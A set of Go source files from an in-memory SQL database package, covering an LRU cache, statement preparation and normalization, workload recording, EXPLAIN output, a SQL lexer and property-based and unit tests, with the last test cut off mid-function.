	case "CAST_INTEGER", "CAST_INT":
		if args[0] == nil {
			return nil, nil
		}
		n, _ := AsInt(args[0])
		return n, nil
	case "CAST_TEXT":
		if args[0] == nil {
			return nil, nil
		}
		return AsString(args[0]), nil
	case "CAST_REAL":
		if args[0] == nil {
			return nil, nil
		}
		return asFloat(coerceNumeric(args[0])), nil
	}
	return nil, fmt.Errorf("sqldb: no such function: %s", x.Name)
}
