package sqldb

import "container/list"

// lruCache is a fixed-capacity least-recently-used cache. It replaces
// the old "delete a random quarter of the map" eviction, which could
// evict the hottest statements in a workload (map iteration order is
// random) and made cache behavior unreproducible run to run. The
// zero value is not usable; construct with newLRU.
//
// lruCache is not safe for concurrent use; callers guard it with the
// mutex that owns the enclosing cache (stmtMu or planMu).
type lruCache[K comparable, V any] struct {
	max     int
	ll      *list.List
	items   map[K]*list.Element
	onEvict func(K, V) // optional; called after removal, same lock held
}

type lruEntry[K comparable, V any] struct {
	key K
	val V
}

func newLRU[K comparable, V any](max int, onEvict func(K, V)) *lruCache[K, V] {
	return &lruCache[K, V]{
		max:     max,
		ll:      list.New(),
		items:   make(map[K]*list.Element),
		onEvict: onEvict,
	}
}

// get returns the value for key and marks it most recently used.
func (c *lruCache[K, V]) get(key K) (V, bool) {
	if el, ok := c.items[key]; ok {
		c.ll.MoveToFront(el)
		return el.Value.(*lruEntry[K, V]).val, true
	}
	var zero V
	return zero, false
}

// put inserts or refreshes key, evicting the least recently used
// entries while over capacity.
func (c *lruCache[K, V]) put(key K, val V) {
	if el, ok := c.items[key]; ok {
		c.ll.MoveToFront(el)
		el.Value.(*lruEntry[K, V]).val = val
		return
	}
	c.items[key] = c.ll.PushFront(&lruEntry[K, V]{key: key, val: val})
	for c.ll.Len() > c.max {
		c.evictOldest()
	}
}

// delete removes key if present (without calling onEvict: deletion is
// an invalidation the caller is already handling, not an eviction).
func (c *lruCache[K, V]) delete(key K) {
	if el, ok := c.items[key]; ok {
		c.ll.Remove(el)
		delete(c.items, key)
	}
}

func (c *lruCache[K, V]) evictOldest() {
	el := c.ll.Back()
	if el == nil {
		return
	}
	ent := el.Value.(*lruEntry[K, V])
	c.ll.Remove(el)
	delete(c.items, ent.key)
	if c.onEvict != nil {
		c.onEvict(ent.key, ent.val)
	}
}

func (c *lruCache[K, V]) len() int { return c.ll.Len() }

// clear drops every entry without running eviction callbacks.
func (c *lruCache[K, V]) clear() {
	c.ll.Init()
	c.items = make(map[K]*list.Element)
}
