package sqldb

import (
	"fmt"
	"sort"
	"strings"

	"maxoid/internal/fault"
)

// prepared is a parsed (and usually normalized) statement batch. The
// AST is shared across every raw text that normalizes to the same
// canonical form, so pointer-keyed memos (plan cache, lock plans,
// expansion cache) hit regardless of the literals the caller wrote.
type prepared struct {
	stmts []Stmt
	text  string  // canonical text: normalized form, or the raw SQL
	norm  bool    // true if this entry went through normalization
	lits  []Value // extracted literal values bound as parameters
}

// bindArgsInto produces the executor's positional argument slice. A
// normalized statement binds its extracted literals (it had no user
// parameters by construction — normalization refuses those); a raw
// statement binds the caller's values. Binding goes into buf, reused
// across a pooled executor's calls, so the hot path allocates nothing.
func (p *prepared) bindArgsInto(buf, args []Value) []Value {
	if p.norm {
		return append(buf[:0], p.lits...)
	}
	out := buf[:0]
	for _, a := range args {
		out = append(out, normalize(a))
	}
	return out
}

// prepare resolves SQL text to a prepared entry through two cache
// levels: raw text -> prepared (per-literal-set), and normalized text
// -> shared AST. Lock order: stmtMu, then planMu/lockPlanMu inside
// eviction callbacks.
func (db *DB) prepare(sql string) (*prepared, error) {
	db.stmtMu.Lock()
	p, ok := db.rawStmts.get(sql)
	db.stmtMu.Unlock()
	if ok {
		return p, nil
	}

	toks, err := lex(sql)
	if err != nil {
		return nil, err
	}
	n, normOK := normalizeTokens(toks)
	if normOK {
		db.stmtMu.Lock()
		shared, hit := db.normStmts.get(n.text)
		db.stmtMu.Unlock()
		if hit {
			p = &prepared{stmts: shared, text: n.text, norm: true, lits: n.lits}
		} else {
			stmts, perr := parseTokens(n.toks)
			if perr != nil {
				// The normalized stream should parse exactly when the
				// raw one does; if it somehow doesn't, the raw parse
				// below owns the outcome (and the error text).
				normOK = false
			} else {
				p = &prepared{stmts: stmts, text: n.text, norm: true, lits: n.lits}
			}
		}
	}
	if !normOK {
		stmts, perr := parseTokens(toks)
		if perr != nil {
			return nil, perr
		}
		p = &prepared{stmts: stmts, text: sql}
	}

	db.stmtMu.Lock()
	if p.norm {
		if shared, hit := db.normStmts.get(p.text); hit {
			// Another goroutine published this shape first; adopt its
			// AST so the pointer-keyed memos converge on one entry.
			p.stmts = shared
		} else {
			db.normStmts.put(p.text, p.stmts)
		}
	}
	db.rawStmts.put(sql, p)
	db.stmtMu.Unlock()
	return p, nil
}

// execPrepared runs a prepared batch, returning the last statement's
// result (the body Exec always had). With a journal attached, the
// batch's unit is appended to the journal before the locks release
// (journal order = serialization order), but the durability wait — if
// the journal defers it — happens after, so concurrent batches group
// commit; a journal failure fails the batch.
func (db *DB) execPrepared(p *prepared, args []Value) (Result, error) {
	res, wait, err := db.execPreparedLocked(p, args)
	if wait != nil {
		if werr := wait(); werr != nil && err == nil {
			err = werr
		}
	}
	if err != nil {
		return Result{}, err
	}
	return res, nil
}

// execPreparedLocked is execPrepared's under-locks half: it returns
// the pending durability wait rather than invoking it.
func (db *DB) execPreparedLocked(p *prepared, args []Value) (Result, func() error, error) {
	db.recordWorkload(p)
	lock := db.lockForBatch(p.stmts)
	defer db.unlockBatch(lock)
	// Durable-store health gate: rejects mutating batches on a degraded
	// store before any statement executes, so in-memory tables never
	// run ahead of a log that cannot accept the batch's journal unit.
	if gerr := db.gateBatch(p.stmts); gerr != nil {
		return Result{}, nil, gerr
	}
	ex := getExecutor(db)
	defer putExecutor(ex)
	ex.argsBuf = p.bindArgsInto(ex.argsBuf, args)
	ex.args = ex.argsBuf
	hadTxn := db.txn != nil // mu held (shared or exclusive) by the batch lock
	var res Result
	var execErr error
	executed := 0
	for _, s := range p.stmts {
		if err := fault.Hit(faultExec); err != nil {
			// Pre-execution fault: the statement never ran, so it is not
			// part of the journaled prefix.
			execErr = err
			break
		}
		// Statement boundary: nothing statement-scoped survives execStmt,
		// so the arenas recycle here.
		ex.sc.reset()
		executed++
		r, err := ex.execStmt(s, nil)
		if err != nil {
			execErr = err
			break
		}
		res = r
	}
	wait, jerr := db.journalBatch(p, ex.args, executed, hadTxn, execErr)
	if jerr != nil && execErr == nil {
		execErr = jerr
	}
	if execErr != nil {
		return Result{}, wait, execErr
	}
	return res, wait, nil
}

// queryPrepared runs a prepared single-statement SELECT or EXPLAIN.
func (db *DB) queryPrepared(p *prepared, args []Value) (*Rows, error) {
	if len(p.stmts) != 1 {
		return nil, fmt.Errorf("sqldb: Query requires exactly one statement")
	}
	db.recordWorkload(p)
	switch st := p.stmts[0].(type) {
	case *SelectStmt:
		// Reads take shared table locks, so queries over disjoint (or
		// even the same) tables run concurrently; planner state is
		// guarded by planMu and atomics rather than the batch lock.
		lock := db.lockForBatch(p.stmts)
		defer db.unlockBatch(lock)
		if err := fault.Hit(faultExec); err != nil {
			return nil, err
		}
		ex := getExecutor(db)
		defer putExecutor(ex)
		ex.argsBuf = p.bindArgsInto(ex.argsBuf, args)
		ex.args = ex.argsBuf
		return ex.execSelect(st, nil)
	case *ExplainStmt:
		lock := db.lockForBatch(p.stmts)
		defer db.unlockBatch(lock)
		ex := getExecutor(db)
		defer putExecutor(ex)
		ex.argsBuf = p.bindArgsInto(ex.argsBuf, args)
		ex.args = ex.argsBuf
		return ex.execExplain(st)
	}
	return nil, fmt.Errorf("sqldb: Query requires a SELECT statement")
}

// PreparedStmt is a reusable handle to a prepared batch. It skips the
// text-level cache lookup on every call; name resolution still happens
// at execution time, so DDL between calls behaves as if the SQL were
// re-issued.
type PreparedStmt struct {
	db *DB
	p  *prepared
}

// Prepare parses (and normalizes) SQL once for repeated execution.
func (db *DB) Prepare(sql string) (*PreparedStmt, error) {
	p, err := db.prepare(sql)
	if err != nil {
		return nil, err
	}
	return &PreparedStmt{db: db, p: p}, nil
}

// Exec runs the prepared batch. Arguments bind to ? placeholders the
// caller wrote; statements whose literals were normalized away bind
// those literals instead and ignore args.
func (s *PreparedStmt) Exec(args ...Value) (Result, error) {
	return s.db.execPrepared(s.p, args)
}

// Query runs the prepared statement as a query.
func (s *PreparedStmt) Query(args ...Value) (*Rows, error) {
	return s.db.queryPrepared(s.p, args)
}

// SQL returns the canonical statement text (normalized when possible),
// the same text workload recording reports.
func (s *PreparedStmt) SQL() string { return s.p.text }

// Workload recording: the index advisor's input. While enabled, every
// executed batch is counted under its canonical text, together with
// the columns its WHERE clause could drive through an index. Literals
// having been normalized to ?, a query shape that runs a million times
// with a million different values records as one entry with count 1e6
// — exactly the aggregation the advisor needs.

// WorkloadEntry is one distinct statement shape observed while
// recording, with the index-relevant analysis already extracted.
type WorkloadEntry struct {
	SQL   string // canonical statement text
	Count int64  // executions observed
	Table string // single-table target; "" when not index-analyzable

	// Columns of Table constrained in the WHERE clause by equality
	// (col = const) and by ranges (<, <=, >, >=, BETWEEN).
	EqCols    []string
	RangeCols []string
}

type workloadStat struct {
	count int64
	stmts []Stmt
}

// StartWorkloadRecording begins (or restarts) collection. Any
// previously recorded workload is discarded.
func (db *DB) StartWorkloadRecording() {
	db.recMu.Lock()
	db.recWork = make(map[string]*workloadStat)
	db.recMu.Unlock()
	db.recOn.Store(true)
}

// StopWorkloadRecording ends collection and returns the recorded
// workload, most frequent first.
func (db *DB) StopWorkloadRecording() []WorkloadEntry {
	db.recOn.Store(false)
	db.recMu.Lock()
	work := db.recWork
	db.recWork = nil
	db.recMu.Unlock()

	out := make([]WorkloadEntry, 0, len(work))
	for text, st := range work {
		e := WorkloadEntry{SQL: text, Count: st.count}
		e.Table, e.EqCols, e.RangeCols = indexableColumns(st.stmts)
		out = append(out, e)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].SQL < out[j].SQL
	})
	return out
}

func (db *DB) recordWorkload(p *prepared) {
	if !db.recOn.Load() {
		return
	}
	db.recMu.Lock()
	if db.recWork != nil {
		st, ok := db.recWork[p.text]
		if !ok {
			st = &workloadStat{stmts: p.stmts}
			db.recWork[p.text] = st
		}
		st.count++
	}
	db.recMu.Unlock()
}

// indexableColumns statically analyzes a batch for the columns a
// secondary index could serve. Only the single-table statement forms
// the access-path layer optimizes are analyzed (one base table, no
// joins); everything else records with an empty table.
func indexableColumns(stmts []Stmt) (table string, eqCols, rangeCols []string) {
	if len(stmts) != 1 {
		return "", nil, nil
	}
	var name, alias string
	var where Expr
	switch st := stmts[0].(type) {
	case *SelectStmt:
		if len(st.Cores) != 1 {
			return "", nil, nil
		}
		core := st.Cores[0]
		if core.From == nil || core.From.Sub != nil || len(core.Joins) > 0 {
			return "", nil, nil
		}
		name, alias, where = core.From.Name, core.From.Alias, core.Where
	case *UpdateStmt:
		name, where = st.Table, st.Where
	case *DeleteStmt:
		name, where = st.Table, st.Where
	case *ExplainStmt:
		return indexableColumns([]Stmt{st.Target})
	default:
		return "", nil, nil
	}
	if alias == "" {
		alias = name
	}
	eqCols, rangeCols = whereColumns(where, name, alias)
	return name, eqCols, rangeCols
}

// whereColumns walks the top-level AND conjuncts collecting columns
// compared against constants — the static mirror of the executor's
// collectConstraints, without needing the table to exist.
func whereColumns(where Expr, table, alias string) (eqCols, rangeCols []string) {
	var walk func(e Expr)
	colOf := func(e Expr) (string, bool) {
		ref, ok := e.(*ColRef)
		if !ok {
			return "", false
		}
		if ref.Table != "" && !strings.EqualFold(ref.Table, alias) && !strings.EqualFold(ref.Table, table) {
			return "", false
		}
		return ref.Col, true
	}
	isConst := func(e Expr) bool {
		switch e.(type) {
		case *Lit, *Param:
			return true
		}
		return false
	}
	add := func(list []string, col string) []string {
		for _, c := range list {
			if strings.EqualFold(c, col) {
				return list
			}
		}
		return append(list, col)
	}
	walk = func(e Expr) {
		switch x := e.(type) {
		case *Binary:
			if x.Op == "AND" {
				walk(x.L)
				walk(x.R)
				return
			}
			switch x.Op {
			case "=", "<", "<=", ">", ">=":
			default:
				return
			}
			var col string
			var ok bool
			if c, o := colOf(x.L); o && isConst(x.R) {
				col, ok = c, true
			} else if c, o := colOf(x.R); o && isConst(x.L) {
				col, ok = c, true
			}
			if !ok {
				return
			}
			if x.Op == "=" {
				eqCols = add(eqCols, col)
			} else {
				rangeCols = add(rangeCols, col)
			}
		case *Between:
			if x.Not {
				return
			}
			if c, o := colOf(x.X); o && isConst(x.Lo) && isConst(x.Hi) {
				rangeCols = add(rangeCols, c)
			}
		}
	}
	walk(where)
	return eqCols, rangeCols
}
