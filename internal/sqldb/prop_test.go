package sqldb

import (
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"
)

// TestPropInsertSelectRoundTrip: any set of (id, text) pairs inserted is
// returned exactly by a full SELECT.
func TestPropInsertSelectRoundTrip(t *testing.T) {
	prop := func(vals []int16) bool {
		db := Open()
		if _, err := db.Exec("CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)"); err != nil {
			return false
		}
		for _, v := range vals {
			if _, err := db.Exec("INSERT INTO t (v) VALUES (?)", int64(v)); err != nil {
				return false
			}
		}
		rows, err := db.Query("SELECT v FROM t ORDER BY _id")
		if err != nil || len(rows.Data) != len(vals) {
			return false
		}
		for i, v := range vals {
			if rows.Data[i][0] != int64(v) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

// TestPropCOWViewInvariant: for random interleavings of primary-table
// and delta-table contents, the COW view always equals
// (primary minus delta'd ids) union (delta rows with _whiteout = 0),
// which is the paper's Figure 6 definition.
func TestPropCOWViewInvariant(t *testing.T) {
	prop := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		db := Open()
		mustSetup := []string{
			"CREATE TABLE tab (_id INTEGER PRIMARY KEY, data TEXT)",
			"CREATE TABLE tab_delta (_id INTEGER PRIMARY KEY, data TEXT, _whiteout BOOLEAN)",
			`CREATE VIEW tab_view AS
				SELECT _id, data FROM tab WHERE _id NOT IN (SELECT _id FROM tab_delta)
				UNION ALL
				SELECT _id, data FROM tab_delta WHERE _whiteout = 0`,
		}
		for _, s := range mustSetup {
			if _, err := db.Exec(s); err != nil {
				return false
			}
		}
		primary := map[int64]string{}
		delta := map[int64]struct {
			data     string
			whiteout bool
		}{}
		for i := 0; i < 30; i++ {
			id := int64(r.Intn(10) + 1)
			data := fmt.Sprintf("d%d", r.Intn(100))
			switch r.Intn(3) {
			case 0:
				if _, ok := primary[id]; ok {
					continue
				}
				if _, err := db.Exec("INSERT INTO tab (_id, data) VALUES (?, ?)", id, data); err != nil {
					return false
				}
				primary[id] = data
			case 1:
				if _, err := db.Exec("INSERT OR REPLACE INTO tab_delta (_id, data, _whiteout) VALUES (?, ?, 0)", id, data); err != nil {
					return false
				}
				delta[id] = struct {
					data     string
					whiteout bool
				}{data, false}
			case 2:
				if _, err := db.Exec("INSERT OR REPLACE INTO tab_delta (_id, data, _whiteout) VALUES (?, ?, 1)", id, data); err != nil {
					return false
				}
				delta[id] = struct {
					data     string
					whiteout bool
				}{data, true}
			}
		}
		// Model of the view.
		want := map[int64]string{}
		for id, d := range primary {
			if _, shadowed := delta[id]; !shadowed {
				want[id] = d
			}
		}
		for id, d := range delta {
			if !d.whiteout {
				want[id] = d.data
			}
		}
		rows, err := db.Query("SELECT _id, data FROM tab_view")
		if err != nil || len(rows.Data) != len(want) {
			return false
		}
		for _, row := range rows.Data {
			id, _ := AsInt(row[0])
			if want[id] != AsString(row[1]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

// TestPropFlatteningEquivalence: flattened and materialized plans return
// the same multiset of rows for random WHERE thresholds.
func TestPropFlatteningEquivalence(t *testing.T) {
	db := Open()
	setup := []string{
		"CREATE TABLE a (_id INTEGER PRIMARY KEY, v INTEGER, w INTEGER)",
		"CREATE TABLE b (_id INTEGER PRIMARY KEY, v INTEGER, w INTEGER)",
		"CREATE VIEW u AS SELECT _id, v, w FROM a UNION ALL SELECT _id, v, w FROM b",
	}
	for _, s := range setup {
		if _, err := db.Exec(s); err != nil {
			t.Fatal(err)
		}
	}
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 50; i++ {
		if _, err := db.Exec("INSERT INTO a (v, w) VALUES (?, ?)", r.Intn(20), r.Intn(20)); err != nil {
			t.Fatal(err)
		}
		if _, err := db.Exec("INSERT INTO b (v, w) VALUES (?, ?)", r.Intn(20), r.Intn(20)); err != nil {
			t.Fatal(err)
		}
	}
	prop := func(threshold uint8) bool {
		th := int64(threshold % 20)
		// Flattened: plain column select.
		flat, err := db.Query("SELECT v, w FROM u WHERE v >= ? ORDER BY v, w", th)
		if err != nil {
			return false
		}
		// Materialized: ORDER BY column (w+0 is not a plain colref) defeats
		// flattening per the 3.8.6 rule.
		mat, err := db.Query("SELECT v, w FROM u WHERE v >= ? ORDER BY v+0, w+0", th)
		if err != nil {
			return false
		}
		if len(flat.Data) != len(mat.Data) {
			return false
		}
		for i := range flat.Data {
			if flat.Data[i][0] != mat.Data[i][0] || flat.Data[i][1] != mat.Data[i][1] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 30}); err != nil {
		t.Error(err)
	}
}
