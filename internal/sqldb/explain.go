package sqldb

import (
	"fmt"
	"strings"
)

// EXPLAIN runs the planner only: the target statement is planned (view
// flattening included), each table reference's access path is chosen,
// and the choices are reported without executing the statement. Output
// mirrors SQLite's EXPLAIN QUERY PLAN: one row per table touched, with
// a human-readable detail string.

// explainColumns is the fixed output shape of EXPLAIN.
var explainColumns = []string{"table", "detail"}

func (ex *executor) execExplain(st *ExplainStmt) (*Rows, error) {
	out := &Rows{Columns: explainColumns}
	if err := ex.explainStmt(st.Target, out); err != nil {
		return nil, err
	}
	return out, nil
}

func (ex *executor) explainStmt(s Stmt, out *Rows) error {
	switch st := s.(type) {
	case *SelectStmt:
		return ex.explainSelect(st, out)
	case *InsertStmt:
		out.Data = append(out.Data, []Value{st.Table, "INSERT INTO " + st.Table})
		if st.Select != nil {
			return ex.explainSelect(st.Select, out)
		}
		return nil
	case *UpdateStmt:
		return ex.explainWrite(st.Table, "UPDATE", st.Where, out)
	case *DeleteStmt:
		return ex.explainWrite(st.Table, "DELETE", st.Where, out)
	case *ExplainStmt:
		return ex.explainStmt(st.Target, out)
	default:
		out.Data = append(out.Data, []Value{"", fmt.Sprintf("%T", s)})
		return nil
	}
}

// explainWrite reports the access path an UPDATE or DELETE would use to
// find its target rows; on a view it reports the trigger redirection.
func (ex *executor) explainWrite(target, verb string, where Expr, out *Rows) error {
	key := strings.ToLower(target)
	if t, ok := ex.db.tables[key]; ok {
		ap := ex.chooseAccess(t, t.name, where)
		out.Data = append(out.Data, []Value{t.name, verb + " " + ap.describe()})
		return nil
	}
	if v, ok := ex.db.views[key]; ok {
		out.Data = append(out.Data, []Value{v.name, fmt.Sprintf("%s VIEW %s VIA INSTEAD OF TRIGGERS", verb, v.name)})
		// The row lookup on the view goes through the planner exactly as
		// viewRowsMatching does.
		sel := &SelectStmt{Cores: []*SelectCore{{
			Cols:  []ResultCol{{Star: true}},
			From:  &TableRef{Name: v.name},
			Where: where,
		}}}
		return ex.explainSelect(sel, out)
	}
	return fmt.Errorf("sqldb: no such table: %s", target)
}

// explainSelect plans a select (applying the same view flattening the
// executor uses) and reports each core's access path.
func (ex *executor) explainSelect(sel *SelectStmt, out *Rows) error {
	planned := ex.plan(sel)
	if planned != sel {
		out.Data = append(out.Data, []Value{"", fmt.Sprintf("FLATTEN UNION ALL VIEW INTO %d ARMS", len(planned.Cores))})
	}
	for _, core := range planned.Cores {
		if err := ex.explainCore(core, out); err != nil {
			return err
		}
	}
	return nil
}

func (ex *executor) explainCore(core *SelectCore, out *Rows) error {
	if core.From == nil {
		out.Data = append(out.Data, []Value{"", "NO TABLE (constant select)"})
		return nil
	}
	refs := []TableRef{*core.From}
	for _, j := range core.Joins {
		refs = append(refs, j.Ref)
	}
	// Only a single-table FROM consults the access-path layer today
	// (matching buildFrom); join sources and subqueries scan.
	single := core.From.Sub == nil && len(core.Joins) == 0
	for i, ref := range refs {
		switch {
		case ref.Sub != nil:
			out.Data = append(out.Data, []Value{ref.Alias, "SCAN SUBQUERY"})
			if err := ex.explainSelect(ref.Sub, out); err != nil {
				return err
			}
		default:
			key := strings.ToLower(ref.Name)
			if t, ok := ex.db.tables[key]; ok {
				alias := ref.Alias
				if alias == "" {
					alias = ref.Name
				}
				if single && i == 0 {
					ap := ex.chooseAccess(t, alias, core.Where)
					out.Data = append(out.Data, []Value{t.name, ap.describe()})
				} else {
					out.Data = append(out.Data, []Value{t.name, fmt.Sprintf("SCAN %s (~%d rows)", t.name, len(t.rows))})
				}
				continue
			}
			if v, ok := ex.db.views[key]; ok {
				out.Data = append(out.Data, []Value{v.name, "MATERIALIZE VIEW " + v.name})
				if err := ex.explainSelect(v.def, out); err != nil {
					return err
				}
				continue
			}
			return fmt.Errorf("sqldb: no such table: %s", ref.Name)
		}
	}
	return nil
}
