package sqldb

import (
	"fmt"
	"strings"
)

type tokenKind int

const (
	tokEOF tokenKind = iota
	tokIdent
	tokKeyword
	tokString
	tokNumber
	tokParam // ?
	tokOp    // operators and punctuation
)

type token struct {
	kind tokenKind
	text string // uppercase for keywords, raw for others
	pos  int
}

var keywords = map[string]bool{
	"SELECT": true, "FROM": true, "WHERE": true, "INSERT": true,
	"INTO": true, "VALUES": true, "UPDATE": true, "SET": true,
	"DELETE": true, "CREATE": true, "TABLE": true, "VIEW": true,
	"TRIGGER": true, "DROP": true, "IF": true, "EXISTS": true,
	"NOT": true, "NULL": true, "PRIMARY": true, "KEY": true,
	"AND": true, "OR": true, "IN": true, "LIKE": true, "IS": true,
	"ORDER": true, "BY": true, "ASC": true, "DESC": true,
	"LIMIT": true, "OFFSET": true, "UNION": true, "ALL": true,
	"AS": true, "ON": true, "INSTEAD": true, "OF": true,
	"BEGIN": true, "END": true, "NEW": true, "OLD": true,
	"REPLACE": true, "JOIN": true, "LEFT": true, "OUTER": true,
	"INNER": true, "DEFAULT": true, "INTEGER": true, "TEXT": true,
	"REAL": true, "BLOB": true, "BOOLEAN": true, "DISTINCT": true,
	"GROUP": true, "HAVING": true, "CASE": true, "WHEN": true,
	"THEN": true, "ELSE": true, "BETWEEN": true, "CAST": true,
	"TRANSACTION": true, "COMMIT": true, "ROLLBACK": true,
	"INDEX": true, "EXPLAIN": true,
}

type lexer struct {
	src  string
	pos  int
	toks []token
}

// lex tokenizes src, returning the token stream or a syntax error.
func lex(src string) ([]token, error) {
	l := &lexer{src: src}
	for {
		l.skipSpaceAndComments()
		if l.pos >= len(l.src) {
			l.toks = append(l.toks, token{kind: tokEOF, pos: l.pos})
			return l.toks, nil
		}
		start := l.pos
		c := l.src[l.pos]
		switch {
		case c == '\'':
			s, err := l.lexString()
			if err != nil {
				return nil, err
			}
			l.toks = append(l.toks, token{kind: tokString, text: s, pos: start})
		case c == '"' || c == '`' || c == '[':
			s, err := l.lexQuotedIdent(c)
			if err != nil {
				return nil, err
			}
			l.toks = append(l.toks, token{kind: tokIdent, text: s, pos: start})
		case isDigit(c) || (c == '.' && l.pos+1 < len(l.src) && isDigit(l.src[l.pos+1])):
			l.toks = append(l.toks, token{kind: tokNumber, text: l.lexNumber(), pos: start})
		case isIdentStart(c):
			word := l.lexWord()
			upper := upperASCII(word)
			if keywords[upper] {
				l.toks = append(l.toks, token{kind: tokKeyword, text: upper, pos: start})
			} else {
				l.toks = append(l.toks, token{kind: tokIdent, text: word, pos: start})
			}
		case c == '?':
			l.pos++
			l.toks = append(l.toks, token{kind: tokParam, text: "?", pos: start})
		default:
			op, err := l.lexOp()
			if err != nil {
				return nil, err
			}
			l.toks = append(l.toks, token{kind: tokOp, text: op, pos: start})
		}
	}
}

func (l *lexer) skipSpaceAndComments() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			l.pos++
		case c == '-' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '-':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.pos++
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			end := strings.Index(l.src[l.pos+2:], "*/")
			if end < 0 {
				l.pos = len(l.src)
			} else {
				l.pos += 2 + end + 2
			}
		default:
			return
		}
	}
}

func (l *lexer) lexString() (string, error) {
	l.pos++ // opening quote
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\'' {
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '\'' {
				b.WriteByte('\'')
				l.pos += 2
				continue
			}
			l.pos++
			return b.String(), nil
		}
		b.WriteByte(c)
		l.pos++
	}
	return "", fmt.Errorf("sqldb: unterminated string literal at %d", l.pos)
}

func (l *lexer) lexQuotedIdent(open byte) (string, error) {
	close := open
	if open == '[' {
		close = ']'
	}
	l.pos++
	start := l.pos
	for l.pos < len(l.src) {
		if l.src[l.pos] == close {
			s := l.src[start:l.pos]
			l.pos++
			return s, nil
		}
		l.pos++
	}
	return "", fmt.Errorf("sqldb: unterminated quoted identifier at %d", start)
}

func (l *lexer) lexNumber() string {
	start := l.pos
	seenDot := false
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if isDigit(c) {
			l.pos++
		} else if c == '.' && !seenDot {
			seenDot = true
			l.pos++
		} else {
			break
		}
	}
	return l.src[start:l.pos]
}

func isDigit(c byte) bool {
	return c >= '0' && c <= '9'
}

// upperASCII uppercases ASCII letters only. strings.ToUpper replaces
// invalid UTF-8 with U+FFFD, which would corrupt identifiers whose
// bytes >= 0x80 the lexer passes through verbatim; keywords and
// function names are all ASCII, so ASCII folding is sufficient.
func upperASCII(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= 'a' && c <= 'z' {
			b := []byte(s)
			for j := i; j < len(b); j++ {
				if b[j] >= 'a' && b[j] <= 'z' {
					b[j] -= 'a' - 'A'
				}
			}
			return string(b)
		}
	}
	return s
}

// Identifier bytes follow SQLite's rule: every byte >= 0x80 is an
// identifier character, with no UTF-8 decoding. Interpreting single
// bytes as runes (the old behavior) split multi-byte characters and
// mis-lexed both valid UTF-8 identifiers and raw byte soup.
func isIdentStart(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= 0x80
}

func isIdentCont(c byte) bool {
	return isIdentStart(c) || c >= '0' && c <= '9'
}

func (l *lexer) lexWord() string {
	start := l.pos
	for l.pos < len(l.src) && isIdentCont(l.src[l.pos]) {
		l.pos++
	}
	return l.src[start:l.pos]
}

var twoCharOps = map[string]bool{
	"<=": true, ">=": true, "<>": true, "!=": true, "||": true, "==": true,
}

func (l *lexer) lexOp() (string, error) {
	if l.pos+1 < len(l.src) && twoCharOps[l.src[l.pos:l.pos+2]] {
		op := l.src[l.pos : l.pos+2]
		l.pos += 2
		return op, nil
	}
	c := l.src[l.pos]
	switch c {
	case '(', ')', ',', ';', '=', '<', '>', '+', '-', '*', '/', '%', '.':
		l.pos++
		return string(c), nil
	}
	return "", fmt.Errorf("sqldb: unexpected character %q at %d", c, l.pos)
}
