package sqldb

import (
	"strings"
	"testing"
)

func mustExec(t *testing.T, db *DB, sql string, args ...Value) Result {
	t.Helper()
	res, err := db.Exec(sql, args...)
	if err != nil {
		t.Fatalf("Exec(%s): %v", sql, err)
	}
	return res
}

func mustQuery(t *testing.T, db *DB, sql string, args ...Value) *Rows {
	t.Helper()
	rows, err := db.Query(sql, args...)
	if err != nil {
		t.Fatalf("Query(%s): %v", sql, err)
	}
	return rows
}

func TestCreateInsertSelect(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE words (_id INTEGER PRIMARY KEY, word TEXT, frequency INTEGER)")
	res := mustExec(t, db, "INSERT INTO words (word, frequency) VALUES ('hello', 10)")
	if res.LastInsertID != 1 {
		t.Errorf("LastInsertID = %d, want 1", res.LastInsertID)
	}
	mustExec(t, db, "INSERT INTO words (word, frequency) VALUES ('world', 5), ('maxoid', 7)")
	rows := mustQuery(t, db, "SELECT word, frequency FROM words ORDER BY frequency DESC")
	if len(rows.Data) != 3 {
		t.Fatalf("got %d rows, want 3", len(rows.Data))
	}
	if rows.Data[0][0] != "hello" || rows.Data[1][0] != "maxoid" || rows.Data[2][0] != "world" {
		t.Errorf("order wrong: %v", rows.Data)
	}
	if rows.Columns[0] != "word" || rows.Columns[1] != "frequency" {
		t.Errorf("columns = %v", rows.Columns)
	}
}

func TestWhereAndParams(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, a TEXT, b INTEGER)")
	for i := 1; i <= 10; i++ {
		mustExec(t, db, "INSERT INTO t (a, b) VALUES (?, ?)", "row", i)
	}
	rows := mustQuery(t, db, "SELECT _id FROM t WHERE b > ? AND b <= ?", 3, 7)
	if len(rows.Data) != 4 {
		t.Errorf("got %d rows, want 4", len(rows.Data))
	}
	rows = mustQuery(t, db, "SELECT _id FROM t WHERE b IN (2, 4, 6)")
	if len(rows.Data) != 3 {
		t.Errorf("IN list: got %d rows, want 3", len(rows.Data))
	}
	rows = mustQuery(t, db, "SELECT _id FROM t WHERE b BETWEEN 8 AND 10")
	if len(rows.Data) != 3 {
		t.Errorf("BETWEEN: got %d rows, want 3", len(rows.Data))
	}
